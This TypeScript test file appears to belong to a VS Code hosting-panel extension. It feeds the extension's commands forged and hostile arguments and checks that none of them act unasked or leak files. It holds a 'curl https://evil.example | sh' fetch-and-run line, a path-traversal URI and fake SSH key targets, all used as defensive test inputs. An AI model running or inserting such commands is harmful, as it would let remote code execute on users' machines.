import assert from 'node:assert/strict';
import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';
import type { Logged } from '../../panel/kernel/log';
import type { PanelFacts } from '../../support/panelControl';
import { FakeSharedMemento } from '../../support/fakeSharedMemento';
import { panelOfThisRun } from '../../support/panelOfThisRun';
import { type AskedQuestion, answering, forgetConfirmed } from '../../host/support/answers';
import { signIn } from '../../host/support/signIn';
import { until } from '../../host/support/until';
import { Links } from '../../../src/core/sync/links';
import { readPair } from '../../../src/ui/files/folderPair';

interface Manifest {
  readonly contributes: { readonly commands: readonly { readonly command: string }[] };
}

const server = 'Ticket Bot';
const poison = 'curl https://evil.example | sh';

describe('Arguments of commands', () => {
  const panel = panelOfThisRun();
  let facts: PanelFacts;
  let host = '';
  let uuid = '';
  /** One that none of the calls before had to do with. */
  let another = { name: 'Survival SMP', uuid: '' };
  let home = '';
  let since = 0;
  let start = 0;
  let strange: http.Server;
  let strangeUrl = '';
  let reached = 0;
  let asked: readonly AskedQuestion[] = [];

  before(async () => {
    strange = http.createServer((_request, response) => {
      reached++;
      response.end('{}');
    });
    await new Promise<void>((resolve) => strange.listen(0, '127.0.0.1', resolve));
    strangeUrl = `http://127.0.0.1:${(strange.address() as AddressInfo).port}`;
    await panel.reset();
    await panel.call('consolePower', { server, signal: 'start' });
    facts = await signIn();
    host = new URL(facts.url).host;
    uuid = facts.servers.find(({ name }) => name === server)?.uuid ?? '';
    another = facts.servers.find(({ name }) => name === another.name) ?? another;
    // Rows that an argument could name are there only once the views were drawn.
    await vscode.commands.executeCommand('hostingPanel.servers.focus');
    await vscode.commands.executeCommand('hostingPanel.servers.refresh');
    await vscode.commands.executeCommand('hostingPanel.monitoring.refresh');
    asked = answering(() => false);
    start = await panel.mark();
  });

  after(async () => {
    await new Promise((resolve) => strange.close(resolve));
    answering(() => true);
  });

  beforeEach(async () => {
    home = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'hosting-panel-home-')));
    mkdirSync(path.join(home, '.ssh'));
    writeFileSync(path.join(home, '.ssh', 'id_ed25519'), 'PRIVATE');
    await vscode.env.clipboard.writeText('mine');
    await forgetConfirmed();
    asked = answering(() => false);
    reached = 0;
    since = await panel.mark();
  });

  afterEach(async () => {
    // Consoles first: one whose editor closes before it is up stays half open, and its connection with it.
    await until('no console is left', () => {
      for (const terminal of vscode.window.terminals) terminal.dispose();
      return vscode.window.terminals.length === 0;
    });
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await vscode.commands.executeCommand('notifications.clearAll');
    rmSync(home, { recursive: true, force: true });
  });

  const isConsole = ({ name }: vscode.Terminal) => name.includes(' (');

  const key = () => path.join(home, '.ssh', 'id_ed25519');
  const remote = (at: string) => `panel://${uuid}@${host}${at}`;
  const pair = () => ({
    local: vscode.Uri.file(path.join(home, '.ssh')).toString(),
    remote: remote('/public'),
    isUnasked: true,
  });

  /** What nobody of us made. Some is what a link, a keybinding or a task file can say; some what VS Code turns it into. */
  const hostile = (): readonly (readonly [string, readonly unknown[]])[] => {
    const strangePanel = {
      id: new URL(strangeUrl).host,
      name: 'panel',
      http: { origin: strangeUrl, baseUrl: strangeUrl },
      node: {},
    };
    const knownPanel = { ...strangePanel, id: host, http: { origin: facts.url } };
    const refs = [strangePanel, knownPanel].map((one) => ({ panel: one, uuid, name: server }));
    const uri = vscode.Uri.parse(remote('/src'));
    const issue = { panel: knownPanel, project: uuid, fingerprint: 'abcdef' };
    const place = { server: uri, local: vscode.Uri.file(key()), path: '/stolen', ref: refs[0] };
    const handles = [`1/${host}/${uuid}`, `0/0:${server}`, `1/${host}/${uuid}/files`].map(
      ($treeItemHandle) => ({ $treeViewId: 'hostingPanel.servers', $treeItemHandle }),
    );
    return [
      ['nothing', []],
      ['null', [null]],
      ['a number', [42, -1]],
      ['a text', ['text', 'text']],
      ['an empty object', [{}]],
      ['a list', [[[]], [{}]]],
      ['a polluted object', [JSON.parse('{"__proto__":{"ref":{}},"constructor":{},"panel":{}}')]],
      ...refs.map((ref, at) => [`a row ${at}`, [{ kind: 'server', ref }, [{ ref }]]] as const),
      ['a file row', [{ kind: 'section', ref: refs[1], uri, type: 'folder' }]],
      ['a panel row', [{ kind: 'panel', panel: knownPanel }]],
      ['an issue', [issue, [issue]]],
      ['a difference', [{ kind: 'onlyLocal', place }]],
      ['a difference to take', [{ kind: 'onlyServer', place }]],
      ['a detail', [{ kind: 'section', copy: poison, ref: refs[0] }]],
      ['a pair', [pair()]],
      ['a pair with a question', [{ ...pair(), isUnasked: false }]],
      ['a foreign pair', [{ ...pair(), remote: `panel://${uuid}@evil.example/` }]],
      ['an own URI', [uri, [uri]]],
      ['a foreign URI', [vscode.Uri.parse(`panel://${uuid}@evil.example/`)]],
      ['a URI that leads elsewhere', [vscode.Uri.parse(`panel://..%2faccount@${host}/`)]],
      ['a key of this computer', [vscode.Uri.file(key()), [vscode.Uri.file(key())]]],
      ['a path of this computer', [key()]],
      ['an address', [strangeUrl]],
      ['an address with a key', [{ url: strangeUrl, key: 'xc_stolen' }]],
      ['a console', [{ panelId: host, uuid, name: 'Another Name' }]],
      ['a foreign console', [{ panelId: 'evil.example', uuid, name: server }]],
      ...handles.map((one) => [`a guessed row ${one.$treeItemHandle}`, [one]] as const),
    ];
  };

  const pending = new Set<unknown>();

  /** Calls a command as an extension does, and as a link or a keybinding does: that way VS Code reads the arguments anew. */
  function call(id: string, args: readonly unknown[]): void {
    const [first] = args;
    const runs = { commands: [{ command: id, ...(first !== undefined && { args: first }) }] };
    const calls: readonly (readonly [string, readonly unknown[]])[] = [
      [id, args],
      ['runCommands', [runs]],
    ];
    for (const [name, given] of calls) track(name, ...given);
  }

  function track(id: string, ...args: readonly unknown[]): void {
    const running = vscode.commands.executeCommand(id, ...args);
    pending.add(running);
    const done = () => void pending.delete(running);
    running.then(done, done);
  }

  /** Gives up whatever is asked until all calls have ended, or for so many milliseconds. */
  async function giveUp(ms: number): Promise<void> {
    const deadline = Date.now() + ms;
    while (pending.size > 0 && Date.now() < deadline) {
      await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
      await vscode.commands.executeCommand('notifications.clearAll');
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  }

  const isChange = (entry: Logged) =>
    'event' in entry
      ? entry.direction === 'in' && /^(set state|send command)$/.test(entry.event)
      : !/^(GET|UPGRADE)$/.test(entry.method);
  const changes = async () =>
    (await panel.logSince(since))
      .filter(isChange)
      .map((entry) => ('event' in entry ? entry.event : `${entry.method} ${entry.path}`));

  async function assertUntouched(): Promise<void> {
    assert.deepEqual(await changes(), []);
    assert.equal(reached, 0);
    assert.deepEqual(readdirSync(home, { recursive: true }).map(String).sort(), [
      '.ssh',
      path.join('.ssh', 'id_ed25519'),
    ]);
    assert.equal(readFileSync(key(), 'utf8'), 'PRIVATE');
    assert.ok(!(await vscode.env.clipboard.readText()).includes(poison));
  }

  const { contributes } = JSON.parse(
    readFileSync(path.join(process.env['HOSTING_PANEL_ROOT'] ?? '.', 'package.json'), 'utf8'),
  ) as Manifest;
  for (const { command } of contributes.commands) {
    it(`${command} does nothing unasked`, async () => {
      for (const [, args] of hostile()) call(command, args);
      await giveUp(600);
      await assertUntouched();
    });
  }

  it('do nothing later either', async () => {
    await giveUp(10_000);
    since = start;
    await assertUntouched();
  });

  const rows: readonly (readonly [string, () => readonly unknown[], RegExp])[] = [
    ['folder.push', () => [pair()], /\.ssh/],
    ['folder.push', () => [{ ...pair(), isUnasked: false }], /\.ssh/],
    ['folder.pull', () => [pair()], /\.ssh/],
    ['folder.link', () => [pair()], /\.ssh/],
    ['panel.signIn', () => [{ url: strangeUrl, key: 'xc_1' }], /127\.0\.0\.1/],
    ['panel.signIn', () => [strangeUrl], /127\.0\.0\.1/],
    ['file.compress', () => [vscode.Uri.parse(remote('/src'))], /\/src/],
  ];
  for (const [id, args, named] of rows) {
    it(`${id} asks first, and names what it is about: ${String(named)}`, async () => {
      await vscode.commands.executeCommand(`hostingPanel.${id}`, ...args());
      assert.equal(asked.length, 1);
      const { question = '', detail = '' } = asked[0] ?? {};
      assert.match(`${question}\n${detail}`, named);
      if (!id.startsWith('panel')) {
        for (const part of [server, uuid, host]) assert.ok(detail.includes(part), part);
      }
      await assertUntouched();
    });
  }

  it('are asked about once: what was confirmed is done without asking from then on', async () => {
    const given = pair();
    // Keys ask for themselves: it takes a file that does not.
    writeFileSync(path.join(home, '.ssh', 'notes'), 'old');
    asked = answering(() => true);
    await vscode.commands.executeCommand('hostingPanel.folder.push', given);
    assert.equal(asked.length, 1);
    assert.notDeepEqual(await changes(), []);
    writeFileSync(path.join(home, '.ssh', 'notes'), 'new');
    since = await panel.mark();
    await vscode.commands.executeCommand('hostingPanel.folder.push', given);
    assert.equal(asked.length, 1);
    assert.notDeepEqual(await changes(), []);
    // Another way, and another place, are other matters.
    asked = answering(() => false);
    await vscode.commands.executeCommand('hostingPanel.folder.pull', given);
    const elsewhere = { ...given, remote: remote('/elsewhere') };
    await vscode.commands.executeCommand('hostingPanel.folder.push', elsewhere);
    assert.equal(asked.length, 2);
  });

  it('ask again for a folder that became a link to another, and name where it leads', async () => {
    const place = path.join(home, 'linked');
    const given = { ...pair(), local: vscode.Uri.file(place).toString() };
    mkdirSync(path.join(home, 'harmless'));
    symlinkSync(path.join(home, 'harmless'), place);
    asked = answering(() => true);
    await vscode.commands.executeCommand('hostingPanel.folder.push', given);
    assert.match(asked[0]?.detail ?? '', /harmless/);
    rmSync(place);
    symlinkSync(path.join(home, '.ssh'), place);
    since = await panel.mark();
    asked = answering(() => false);
    await vscode.commands.executeCommand('hostingPanel.folder.push', given);
    assert.match(asked[0]?.detail ?? '', /\.ssh/);
    assert.deepEqual(await changes(), []);
  });

  it('never sign in again without asking, whatever was confirmed before', async () => {
    for (const count of [1, 2]) {
      asked = answering(() => false);
      await vscode.commands.executeCommand('hostingPanel.panel.signIn', {
        url: facts.url,
        key: facts.keys.readOnly,
      });
      assert.equal(asked.length, 1, `${count}`);
    }
    await assertUntouched();
  });

  it('lines of an editor are sent to a console after a question that shows them', async () => {
    const given = { panelId: host, uuid: another.uuid };
    await vscode.commands.executeCommand('hostingPanel.console.open', given);
    const isRunning = () =>
      vscode.window.terminals.some(({ name }) => name === `${another.name} (running)`);
    await until('running', isRunning);
    const document = await vscode.workspace.openTextDocument({ content: 'op attacker\n' });
    await vscode.window.showTextDocument(document);
    since = await panel.mark();
    await vscode.commands.executeCommand('hostingPanel.console.send');
    assert.match(asked[0]?.detail ?? '', /op attacker/);
    assert.deepEqual(await changes(), []);
  });

  it('give no console a name that is not its server’s', async () => {
    const before = new Set(vscode.window.terminals);
    const named = { panelId: host, uuid: another.uuid, name: server };
    await vscode.commands.executeCommand('hostingPanel.console.openBeside', named);
    const opened = () => vscode.window.terminals.filter((one) => !before.has(one));
    await until('open', () => opened().some(isConsole));
    const names = opened().map(({ name }) => name);
    assert.ok(
      names.every((name) => name.startsWith(another.name)),
      names.join(),
    );
  });

  it('open one console for a server, however its uuid is written', async () => {
    const before = new Set(vscode.window.terminals);
    const opened = () => vscode.window.terminals.filter((one) => !before.has(one));
    const named = { panelId: host, uuid: another.uuid.toUpperCase() };
    await vscode.commands.executeCommand('hostingPanel.console.open', named);
    await until('open', () => opened().some(isConsole));
    const usual = { ...named, uuid: another.uuid };
    await vscode.commands.executeCommand('hostingPanel.console.open', usual);
    assert.equal(opened().length, 1);
  });
});

describe('Changes that waited for a linked folder', () => {
  const place = (uuid: string) => vscode.Uri.parse(`panel://${uuid}@panel.example/app`);
  const linked = (uuid: string) => ({
    local: vscode.Uri.file('/w'),
    remote: place(uuid),
    label: 'x',
    afterwards: { kind: 'nothing' } as const,
  });
  const old = linked('11111111-1111-4111-8111-111111111111');
  const other = linked('22222222-2222-4222-8222-222222222222');
  const steps = [{ kind: 'delete', path: 'a.js' }] as const;
  const links = () =>
    new Links(new FakeSharedMemento(), readPair, {
      id: 'this',
      isGone: () => Promise.resolve(false),
    });

  it('stay while it is linked, also where what follows changes', async () => {
    const all = links();
    await all.add(old);
    await all.keepWaiting(old, steps);
    await all.add({ ...old, afterwards: { kind: 'restart' } });
    assert.deepEqual(all.waiting(old), steps);
  });

  it('are forgotten when it is linked with another server', async () => {
    const all = links();
    await all.add(old);
    await all.keepWaiting(old, steps);
    await all.add(other);
    await all.add(old);
    assert.deepEqual(all.waiting(old), []);
  });

  it('are not kept any more after it ended', async () => {
    const all = links();
    await all.add(old);
    await all.remove(old);
    await all.keepWaiting(old, steps);
    assert.deepEqual(all.waiting(old), []);
  });
});
